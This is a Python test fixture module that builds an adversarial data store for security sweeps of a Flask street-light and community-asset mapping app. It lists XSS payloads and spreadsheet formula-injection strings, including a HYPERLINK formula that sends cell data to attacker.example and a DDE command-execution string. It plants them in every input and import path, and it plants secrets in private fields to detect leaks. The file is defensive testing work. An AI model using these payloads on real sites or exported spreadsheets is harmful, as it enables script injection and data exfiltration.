"""One hostile world for the adversarial sweeps (tests/adversarial/test_sweep_*.py), built once per worker.

The store holds the demo data, an account and an API token for every role in two zones (plus an administrator), and
everything an attacker or a careless council file can put into it:

- secrets in every private field (contact details, internal notes, moderation reasons, rejected and pending assets,
  hidden originals, edited originals, Community Payback sites, account names), in ``ZONE``;
- XSS and spreadsheet-formula payloads in every text field a resident can send (API, report form), and in every
  import path (lamp columns, community assets, streets, police.uk CSV, a GPX walk, the zone's own name), in the
  added zone ``HOSTILE``;
- public notes an officer typed (payloads too: officers paste from anywhere).

Building it takes a few seconds, so it is made once per worker (``world_template``) and each test module works on
its own copy (``world``): a module's writes never leak into another module's sweep.
"""

import csv
import json
import re
import secrets
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from mapper import create_app
from mapper.accounts import ROLES, ZONED_ROLES, Accounts
from mapper.cli import main
from mapper.crs import from_british_national_grid, to_british_national_grid
from tests.helpers import INSIDE, point_feature

ZONE, OTHER = "bell-foundry", "new-parks"
HOSTILE = "hostile-zone"  # added with `mapper zones add` under a hostile name; holds the XSS and formula payloads
HOSTILE_CENTRE = (-1.1000, 52.6300)  # east Leicester, outside every shipped zone
HOSTILE_HALF_SIDE_M = 700
PASSWORD = "correct horse battery staple"
MARK = "__xss"  # every XSS payload sets window.__xss = 1

XSS_PAYLOADS = [
    '<img src=x onerror="window.__xss=1">',
    "<svg onload=window.__xss=1>",
    "<script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg/onload=window.__xss=1>",
    '"onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="',
    "javascript:window.__xss=1",
    '<a href="javascript:window.__xss=1">tap</a>',
    "${window.__xss=1}`;window.__xss=1;`",
    "{{constructor.constructor('window.__xss=1')()}}",
    '<details open ontoggle="window.__xss=1">',
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "\u2028</script><!--<script>window.__xss=1</script>",
]

FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def line(payload):
    """A payload for a one-line field, which refuses control characters and line breaks (as it should)."""
    return "".join(c for c in payload if c not in "\t\r\n\u2028\u2029")


def secret(kind):
    """A string that appears nowhere else: found in an answer, it can only have come from this planted field."""
    return f"SECRET-{kind}-{secrets.token_hex(5)}"


@dataclass
class World:
    data_dir: Path
    app: object = None
    accounts: dict = field(default_factory=dict)  # name -> {"role", "zones", "token", "password"}
    secrets: dict = field(default_factory=dict)  # what -> secret text
    features: dict = field(default_factory=dict)  # label -> {"zone", "layer", "id", "ref"}
    hostile: list = field(default_factory=list)  # [{"zone", "layer", "id", "ref", "payload"}]

    def account(self, role, zone=ZONE):
        """The name of the account of ``role`` in ``zone`` (administrators cover every zone)."""
        return "admin" if role == "admin" else f"{role}-{zone}"

    def token(self, role, zone=ZONE):
        return self.accounts[self.account(role, zone)]["token"]

    def client(self):
        return self.app.test_client()


def lon_lat_in_hostile(index, columns=12, spacing_m=100, east_offset_m=0):
    """Points on a grid around the hostile zone's centre (index < 108 stays inside), far enough apart that the map
    shows them as single pins."""
    east, north = to_british_national_grid(*HOSTILE_CENTRE)
    row, column = divmod(index, columns)
    lon, lat = from_british_national_grid(east + (column - columns / 2) * spacing_m + east_offset_m,
                                          north + (row - 4) * spacing_m)
    return round(float(lon), 7), round(float(lat), 7)


def hostile_boundary(path):
    east, north = to_british_national_grid(*HOSTILE_CENTRE)
    d = HOSTILE_HALF_SIDE_M
    corners = [(east - d, north - d), (east + d, north - d), (east + d, north + d), (east - d, north + d)]
    lon, lat = from_british_national_grid([c[0] for c in corners], [c[1] for c in corners])
    ring = [[round(float(x), 7), round(float(y), 7)] for x, y in zip(lon, lat)]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},
                                "geometry": {"type": "Polygon", "coordinates": [ring + [ring[0]]]}}]}))
    return path


def cli(*args):
    result = CliRunner().invoke(main, [str(arg) for arg in args], catch_exceptions=False)
    assert result.exit_code == 0, (args, result.output)
    return result.output


def checked(response, *statuses):
    assert response.status_code in (statuses or (200, 201)), (response.status_code, response.get_data(as_text=True))
    return response


class Planter:
    """Writes through the real HTTP routes: residents anonymously (each from its own address, so no throttle of
    public writes stops the planting), staff with their bearer tokens."""

    def __init__(self, world):
        self.world, self.client, self.address = world, world.app.test_client(), 0

    def resident(self, method, url, **options):
        self.address += 1
        environ = {"REMOTE_ADDR": f"10.{self.address // 65536 % 256}.{self.address // 256 % 256}.{self.address % 256}"}
        return self.client.open(url, method=method, environ_base=environ, **options)

    def staff(self, role, method, url, zone=ZONE, **options):
        headers = {"Authorization": f"Bearer {self.world.token(role, zone)}", "Accept": "application/json"}
        return self.client.open(url, method=method, headers=headers, **options)

    def report(self, zone, layer, lon, lat, **properties):
        answer = checked(self.resident("POST", f"/api/zones/{zone}/{layer}",
                                       json=point_feature(lon, lat, **properties)), 201)
        feature = answer.get_json()
        return {"zone": zone, "layer": layer, "id": feature["id"], "ref": feature["properties"].get("ref")}


def plant_secrets(world, planter):
    """Every private field of ZONE holds a secret; public text around them is ordinary."""
    s = world.secrets
    lon, lat = INSIDE[ZONE]
    s.update({"contact_name": secret("contact-name"), "contact_email": f"secret.{secrets.token_hex(5)}@example.org",
              "contact_phone": "07700 9" + f"{secrets.randbelow(10 ** 5):05d}"})
    world.features["contact"] = planter.report(ZONE, "lights", lon, lat, category="out", description="Lamp out",
                                               contact_name=s["contact_name"], contact_email=s["contact_email"],
                                               contact_phone=s["contact_phone"])
    # The report form (CSRF token from /report/token in the same browser session).
    form_client = world.app.test_client()
    token = form_client.get("/report/token").get_json()["csrf_token"]
    s["form_contact_name"], s["form_contact_email"] = secret("form-name"), f"form.{secrets.token_hex(5)}@example.org"
    answer = checked(form_client.post("/report", headers={"Accept": "application/json"}, data={
        "csrf_token": token, "kind": "light", "category": "dim", "lon": str(lon + 0.0004), "lat": str(lat),
        "description": "Dim lamp", "contact_name": s["form_contact_name"], "contact_email": s["form_contact_email"],
        "client_id": secrets.token_hex(16)}), 201)
    world.features["form_contact"] = {"zone": ZONE, "layer": "lights", "id": answer.get_json()["id"],
                                      "ref": answer.get_json()["ref"]}

    # Assets: one left pending, one rejected, one edited then published; each contributor's details are private.
    for label in ("pending", "rejected", "edited"):
        s[f"{label}_name"] = secret(f"{label}-asset")
        s[f"{label}_contact"] = f"{label}.{secrets.token_hex(5)}@example.org"
        world.features[label] = planter.report(ZONE, "assets", lon - 0.0006, lat + 0.0003 * len(world.features),
                                               category="food-bank", name=s[f"{label}_name"],
                                               contact_email=s[f"{label}_contact"])
    s["reject_reason"], s["edit_reason"] = secret("reject-reason"), secret("edit-reason")
    moderate = f"/api/zones/{ZONE}/assets/{{}}/moderation"
    checked(planter.staff("officer", "POST", moderate.format(world.features["rejected"]["id"]),
                          json={"action": "reject", "reason": s["reject_reason"]}))
    checked(planter.staff("officer", "POST", moderate.format(world.features["edited"]["id"]),
                          json={"action": "edit", "properties": {"name": "Community Pantry"},
                                "reason": s["edit_reason"], "approve": True}))

    # An officer's internal note (and a public one, which may be shown).
    s["internal_note"] = secret("internal-note")
    world.features["noted"] = planter.report(ZONE, "lights", lon + 0.0008, lat, category="flickering")
    checked(planter.staff("officer", "PATCH", f"/api/zones/{ZONE}/lights/{world.features['noted']['id']}",
                          json={"status": "confirmed", "public_note": "Engineer booked",
                                "internal_note": s["internal_note"]}))

    # Hidden text: the original and the moderator's reason stay with staff.
    s["hidden_original"], s["hide_reason"] = secret("hidden-original"), secret("hide-reason")
    world.features["hidden"] = planter.report(ZONE, "lights", lon, lat + 0.0006, category="damaged",
                                              description=s["hidden_original"])
    checked(planter.staff("officer", "POST", f"/api/zones/{ZONE}/lights/{world.features['hidden']['id']}/moderation",
                          json={"action": "hide", "fields": ["description"], "reason": s["hide_reason"]}))

    # Community Payback sites are staff-only, whatever they say.
    s["site_name"], s["site_description"], s["site_note"] = (secret("site-name"), secret("site-description"),
                                                             secret("site-note"))
    site = checked(planter.staff("probation", "POST", f"/api/zones/{ZONE}/cp-sites", json=point_feature(
        lon - 0.0009, lat - 0.0004, name=s["site_name"], kind="litter", description=s["site_description"])), 201)
    world.features["site"] = {"zone": ZONE, "layer": "cp-sites", "id": site.get_json()["id"], "ref": None}
    checked(planter.staff("probation", "PATCH", f"/api/zones/{ZONE}/cp-sites/{world.features['site']['id']}",
                          json={"status": "active", "internal_note": s["site_note"]}))


def plant_hostile_reports(world, planter):
    """Every XSS and formula payload in every text field residents (and officers' public notes) fill in."""
    lon_lat = iter(lon_lat_in_hostile(i) for i in range(200))
    for number, payload in enumerate(XSS_PAYLOADS + FORMULA_PAYLOADS):
        lon, lat = next(lon_lat)
        light = planter.report(HOSTILE, "lights", lon, lat, category="out", description=payload,
                               location_text=line(payload))
        world.hostile.append({**light, "payload": payload})
        lon, lat = next(lon_lat)
        asset = planter.report(HOSTILE, "assets", lon, lat, category="food-bank", name=line(payload),
                               description=payload, address=line(payload), opening_hours=payload,
                               location_text=line(payload))
        # Moderation publishes it, with the payload also in the moderator's edit of the description.
        checked(planter.staff("admin", "POST", f"/api/zones/{HOSTILE}/assets/{asset['id']}/moderation",
                              json={"action": "edit", "properties": {"description": f"{payload} (checked)"},
                                    "approve": True, "reason": payload}))
        world.hostile.append({**asset, "payload": payload})
        if payload in FORMULA_PAYLOADS:  # staff-only Community Payback sites, named by whoever plans them
            checked(planter.staff("admin", "POST", f"/api/zones/{HOSTILE}/cp-sites", json=point_feature(
                lon, lat + 0.0002, name=line(payload), kind="litter", description=payload)), 201)
        if number % 3 == 0:  # an officer's public note on some of them, and a status that shows it
            checked(planter.staff("admin", "PATCH", f"/api/zones/{HOSTILE}/lights/{light['id']}",
                                  json={"status": "confirmed", "public_note": payload, "internal_note": payload}))


def plant_hostile_imports(world, folder):
    """Council files whose every text field is a payload: lamp columns, assets, streets, police.uk and a GPX walk."""
    data = world.data_dir
    payloads = XSS_PAYLOADS + FORMULA_PAYLOADS
    columns = folder / "columns.csv"
    with open(columns, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["unit_id", "location", "lon", "lat"])
        for number, payload in enumerate(payloads):
            lon, lat = lon_lat_in_hostile(number * 2, east_offset_m=12)  # a column next to each light
            writer.writerow([payload[:64], payload, f"{lon:.7f}", f"{lat:.7f}"])
    cli("import-columns", "--zone", HOSTILE, "--data", data, columns)

    assets = folder / "hubs.csv"
    with open(assets, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["community_hub", "address", "postcode", "website", "email", "telephone", "opening_hours",
                         "lon", "lat"])
        for number, payload in enumerate(payloads):
            lon, lat = lon_lat_in_hostile(number + 60)
            writer.writerow([f"Hub {payload}", payload, "LE1 1AA", "https://example.org/hub", "", "0116 000 0000",
                             payload, f"{lon:.7f}", f"{lat:.7f}"])
    cli("import-assets", "--zone", HOSTILE, "--skip-invalid", "--data", data, assets)

    streets = folder / "ways.geojson"
    ways = []
    for number, payload in enumerate(payloads):
        (lon1, lat1), (lon2, lat2) = lon_lat_in_hostile(number), lon_lat_in_hostile(number + 1)
        ways.append({"type": "Feature", "id": f"way/{900100000 + number}",
                     "properties": {"@id": f"way/{900100000 + number}", "highway": "residential", "name": payload},
                     "geometry": {"type": "LineString", "coordinates": [[lon1, lat1], [lon2, lat2]]}})
    streets.write_text(json.dumps({"type": "FeatureCollection", "features": ways}), encoding="utf-8")
    cli("import-streets", "--zone", HOSTILE, "--skip-invalid", "--data", data, streets)

    police = folder / "2024-12-leicestershire-street.csv"
    with open(police, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Crime ID", "Month", "Reported by", "Falls within", "Longitude", "Latitude", "Location",
                         "LSOA code", "LSOA name", "Crime type", "Last outcome category", "Context"])
        for number, payload in enumerate(payloads * 3):  # enough records in one place for a hotspot
            lon, lat = lon_lat_in_hostile(number % 4)
            writer.writerow([f"{payload}{number}"[:64], "2024-12", "Leicestershire Police", "Leicestershire Police",
                             f"{lon:.6f}", f"{lat:.6f}", f"On or near {payload}", "E01025000",
                             "Leicester 012A", "Anti-social behaviour", payload, payload])
    cli("import-police", "--zone", HOSTILE, "--data", data, police)

    gpx = folder / "walk.gpx"
    points = [lon_lat_in_hostile(i) for i in range(6)]
    waypoints = "".join(
        f'<wpt lat="{lat}" lon="{lon}"><time>2024-11-20T17:{10 + i:02d}:00Z</time><name>{escape_xml(payload)}</name>'
        f"<desc>light out {escape_xml(payload)}</desc></wpt>"
        for i, ((lon, lat), payload) in enumerate(zip(points, XSS_PAYLOADS)))
    track = "".join(f'<trkpt lat="{lat}" lon="{lon}"><time>2024-11-20T17:{10 + i:02d}:00Z</time></trkpt>'
                    for i, (lon, lat) in enumerate(points))
    gpx.write_text(f'<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="sweep" '
                   f'xmlns="http://www.topografix.com/GPX/1/1">{waypoints}<trk><name>{escape_xml(XSS_PAYLOADS[0])}'
                   f"</name><trkseg>{track}</trkseg></trk></gpx>", encoding="utf-8")
    output = cli("import-gpx", "--zone", HOSTILE, "--title", XSS_PAYLOADS[3], "--data", data, gpx)
    world.features["walk"] = {"zone": HOSTILE, "layer": "audits", "id": output.split(" as ")[1].split(".")[0].strip(),
                              "ref": None}


def escape_xml(text):
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
            .replace("\u2028", " "))


def add_accounts(world):
    accounts = Accounts(world.data_dir)
    for zone in (ZONE, OTHER, HOSTILE):
        for role in ZONED_ROLES:
            name = world.account(role, zone)
            accounts.add(name, role, [zone], password=PASSWORD)
            world.accounts[name] = {"role": role, "zones": [zone], "password": PASSWORD,
                                    "token": accounts.new_token(name)}
    accounts.add("admin", "admin", [], password=PASSWORD)
    world.accounts["admin"] = {"role": "admin", "zones": [], "password": PASSWORD, "token": accounts.new_token("admin")}
    assert set(ROLES) == {account["role"] for account in world.accounts.values()}, "a role with no account here"


# The sweeps make thousands of requests from one test client: the public's budgets (tests/adversarial/
# test_rate_limits.py holds them) would turn most into 429s and hide what the sweeps look for.
UNTHROTTLED = {name: "1000000 per minute" for name in (
    "RATELIMIT_PUBLIC_POSTS", "RATELIMIT_ZONE_POSTS", "RATELIMIT_CONFIRMATIONS", "RATELIMIT_CONFIRMATIONS_PER_REPORT",
    "RATELIMIT_PHOTOS", "RATELIMIT_ANALYSIS")}


def app_for(data_dir):
    app = create_app({"DATA_DIR": data_dir, "TESTING": True, **UNTHROTTLED})
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a bug comes back as the 500 a client would see, not a raise
    return app


# -- the URL map ---------------------------------------------------------------------------------------------------

URL_MAP_APP = create_app({"DATA_DIR": Path("/nonexistent/mapper-url-map"), "TESTING": True})  # never touches disk
WRITES = ("POST", "PUT", "PATCH", "DELETE")
PART = re.compile(r"<(?:(?P<converter>[a-z]+):)?(?P<name>[a-z_]+)>")


def rules():
    """Every rule of the app as ``(rule, endpoint, sorted methods)`` (HEAD and OPTIONS left out: Flask adds them)."""
    return sorted(((rule.rule, rule.endpoint, sorted(rule.methods - {"HEAD", "OPTIONS"}))
                   for rule in URL_MAP_APP.url_map.iter_rules()), key=lambda r: r[0])


def rule_parts(rule):
    return [match.group("name") for match in PART.finditer(rule)]


def fill(rule, values):
    """The rule's path with each ``<converter:name>`` replaced by ``values[name]`` (given unquoted)."""
    return PART.sub(lambda match: str(values[match.group("name")]), rule)


def csrf_token_of(page_text):
    return re.search(r'name="csrf_token" value="([^"]+)"', page_text).group(1)


def signed_in(world, name):
    """A test client signed in as ``name`` through the sign-in form (a browser session with its cookie)."""
    client = world.client()
    token = csrf_token_of(client.get("/login").get_data(as_text=True))
    answer = client.post("/login", data={"name": name, "password": PASSWORD, "csrf_token": token})
    assert answer.status_code == 303, (name, answer.status_code)
    return client


def real_values(world, zone, rule=""):
    """Real ids and names for every URL part, for ``zone``: the URLs reach real features, walks and reports."""
    feature = world.features.get(f"light-{zone}") or {}
    site = world.features["site"] if "cp-sites" in rule and zone == ZONE else feature
    walk = world.features["walk"]["id"] if zone == HOSTILE else "no-such-walk"
    return {"zone_id": zone, "layer_name": "lights", "feature_id": site.get("id", "no-such-feature"),
            "extension": "csv", "ref": feature.get("ref", "BF-00000"), "name": "none.jpg",
            "token": "not-a-real-token", "token_id": "nosuchid", "action": "approve", "walk_id": walk, "index": 0,
            "package": "leaflet", "path": "dist/leaflet.js", "filename": "css/site.css"}


@pytest.fixture(scope="session")
def world_template(tmp_path_factory):
    """The hostile world, built once per worker (never written to by the sweeps: they work on copies)."""
    root = tmp_path_factory.mktemp("hostile-world")
    world = World(root / "store")
    cli("demo", "--data", world.data_dir)
    # The name closes any inline script it is put in; the council's breaks out of an attribute.
    cli("zones", "add", XSS_PAYLOADS[0] + XSS_PAYLOADS[3], "--id", HOSTILE, "--council", XSS_PAYLOADS[4], "--boundary",
        hostile_boundary(root / "boundary.geojson"), "--data", world.data_dir)
    world.app = app_for(world.data_dir)
    add_accounts(world)
    planter = Planter(world)
    plant_secrets(world, planter)
    plant_hostile_reports(world, planter)
    plant_hostile_imports(world, root)
    for zone in (ZONE, OTHER, HOSTILE):  # one ordinary public light per zone, for URLs that need an id
        light = next(f for f in world.app.extensions["mapper"].store.query(zone, "lights")
                     if f["properties"].get("ref"))
        world.features[f"light-{zone}"] = {"zone": zone, "layer": "lights", "id": light["properties"]["id"],
                                           "ref": light["properties"]["ref"]}
    world.app = None  # each copy gets its own app (and store caches)
    return world


@pytest.fixture(scope="module")
def world(world_template, tmp_path_factory):
    """A module's own copy of the hostile world, with its own app."""
    copy = tmp_path_factory.mktemp("world") / "store"
    shutil.copytree(world_template.data_dir, copy, symlinks=True)
    clone = World(copy, app_for(copy), dict(world_template.accounts), dict(world_template.secrets),
                  dict(world_template.features), list(world_template.hostile))
    return clone
